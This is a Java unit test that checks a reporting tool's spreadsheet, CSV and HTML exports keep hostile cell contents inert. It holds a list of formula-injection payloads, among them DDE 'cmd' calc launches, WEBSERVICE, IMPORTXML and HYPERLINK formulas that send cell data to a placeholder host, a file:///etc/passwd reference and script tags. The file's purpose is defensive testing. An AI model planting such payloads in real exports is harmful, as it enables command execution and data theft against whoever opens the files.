package app.assay.reporting;

import static org.assertj.core.api.Assertions.assertThat;

import app.assay.domain.table.Column;
import app.assay.domain.table.ColumnType;
import app.assay.domain.table.TableQuery;
import app.assay.domain.table.TableRow;
import app.assay.reporting.export.TableExport;
import app.assay.reporting.pack.IndexPage;
import app.assay.reporting.table.CsvTables;
import app.assay.work.Progress;
import de.siegmar.fastcsv.reader.CsvReader;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

/// What data say is never a formula, a link or a script in what leaves the program. POI, which is not what writes the
/// workbooks, is the judge.
class InertExportTest {

    private static final List<String> PAYLOADS = payloads();

    private static List<String> payloads() {
        var formulas = List.of(
                "1+1",
                "cmd|' /C calc'!A0",
                "HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")",
                "WEBSERVICE(\"http://x.invalid/\"&A1)",
                "IMPORTXML(CONCAT(\"http://x.invalid/\",A1),\"//a\")",
                "'file:///etc/passwd'#$passwd.A1",
                "SUM(A1:A9)*cmd|'/c calc'!A0");
        var payloads = new ArrayList<String>();
        for (String trigger : List.of("=", "+", "-", "@", "＝", "＋", "－", "＠")) {
            formulas.forEach(formula -> payloads.add(trigger + formula));
        }
        payloads.addAll(List.of(
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                "\0=1+1",
                " =1+1",
                "\u00a0=1+1",
                "\u200b=1+1",
                "\ufeff=1+1",
                "\"=1+1",
                "'=1+1",
                "\" \"@SUM(1)",
                "{=1+1}",
                "<script>alert(1)</script>",
                "]]></t></is></c><c><f>1+1</f></c>",
                "</t></is></c></row><row><c><f>1+1</f></c></row>",
                "&lt;x&gt; & \"y\" 'z'",
                "_x003D_1+1",
                "a\u0001b\u001fc\u007fd\ufffee",
                "half \uD800 character",
                "http://x.invalid/",
                "\\\\host\\share",
                varied("x", 40_000),
                varied("\u0001", 32_767)));
        return List.copyOf(payloads);
    }

    /// A long text that no reader takes for a bomb.
    private static String varied(String start, int length) {
        var random = new Random(9);
        var text = new StringBuilder(start);
        while (text.length() < length) {
            text.append(random.nextInt(40) == 0 ? '\u0001' : (char) ('a' + random.nextInt(26)));
        }
        return text.toString();
    }

    private static byte[] write(TableExport.Format format) throws IOException {
        var rows = new ArrayList<TableRow>();
        PAYLOADS.forEach(
                payload -> rows.add(new TableRow("row" + rows.size(), ExampleContent.cells(payload, payload))));
        var columns = List.of(Column.of("name", ColumnType.TEXT), Column.of("code", ColumnType.CODE));
        var out = new ByteArrayOutputStream();
        TableExport.write(
                new ExampleContent.Rows("payloads", columns, rows),
                TableQuery.ALL,
                List.of(),
                format,
                ExampleContent.MADE,
                out,
                Progress.NONE);
        return out.toByteArray();
    }

    @Test
    void a_workbook_holds_every_text_as_text_and_nothing_that_reaches_out() throws IOException {
        assertThat(PAYLOADS).hasSizeGreaterThanOrEqualTo(60);
        byte[] bytes = write(TableExport.Format.XLSX);
        try (var book = new XSSFWorkbook(new ByteArrayInputStream(bytes))) {
            assertThat(book.isMacroEnabled()).isFalse();
            var sheet = book.getSheetAt(0);
            assertThat(sheet.getHyperlinkList()).isEmpty();
            for (int row = 0; row < PAYLOADS.size(); row++) {
                String payload = PAYLOADS.get(row);
                for (int column = 0; column < 2; column++) {
                    var cell = sheet.getRow(row + 1).getCell(column);
                    assertThat(cell.getCellType()).as(payload).isEqualTo(CellType.STRING);
                    assertThat(cell.getCellStyle().getQuotePrefixed())
                            .as(payload)
                            .isEqualTo(CsvTables.needsGuard(payload));
                    String text = cell.getStringCellValue();
                    assertThat(text.length()).isLessThanOrEqualTo(32_767);
                    if (payload.length() > 32_767) {
                        assertThat(text)
                                .startsWith(payload.substring(0, 1_000))
                                .endsWith("whole in the CSV export of this table]");
                    } else {
                        assertThat(text).isEqualTo(payload.replace('\uD800', '\ufffd'));
                    }
                }
            }
        }
        try (var zip = new ZipInputStream(new ByteArrayInputStream(bytes))) {
            for (ZipEntry entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
                assertThat(entry.getName()).doesNotContain("externalLink", "vba", "media", "embeddings");
                String part = new String(zip.readAllBytes(), StandardCharsets.UTF_8);
                assertThat(part).as(entry.getName()).doesNotContain("TargetMode", "<f>", "<script");
            }
        }
    }

    @Test
    void the_exact_table_loses_nothing_and_the_one_for_spreadsheets_begins_no_cell_with_a_formula() throws IOException {
        var exact = read(write(TableExport.Format.CSV));
        var guarded = read(write(TableExport.Format.CSV_SPREADSHEET));
        for (int row = 0; row < PAYLOADS.size(); row++) {
            String payload = PAYLOADS.get(row).replace('\uD800', '\ufffd');
            assertThat(exact.get(row + 1)).containsExactly(payload, payload);
            var cells = guarded.get(row + 1);
            boolean isGuarded = CsvTables.needsGuard(payload);
            assertThat(cells.get(2)).isEqualTo(isGuarded ? "name code" : "");
            assertThat(isGuarded ? CsvTables.unguard(cells.get(0)) : cells.get(0))
                    .isEqualTo(payload);
            assertThat(cells.get(0)).doesNotContainPattern("^[\\s\\p{Z}\\p{Cf}\"]*[=+\\-@＝＋－＠\\x00]");
        }
    }

    private static List<List<String>> read(byte[] bytes) throws IOException {
        var rows = new ArrayList<List<String>>();
        try (var reader = CsvReader.builder()
                .skipEmptyLines(false)
                .maxBufferSize(1 << 20)
                .ofCsvRecord(stripMark(new String(bytes, StandardCharsets.UTF_8)))) {
            reader.forEach(row -> rows.add(row.getFields()));
        }
        return rows;
    }

    private static String stripMark(String text) {
        return text.startsWith("\ufeff") ? text.substring(1) : text;
    }

    @Test
    void a_page_shows_what_data_say_and_runs_none_of_it() {
        for (String payload : PAYLOADS) {
            assertThat(IndexPage.escaped(payload)).doesNotContain("<", ">", "\"", "'");
        }
    }
}
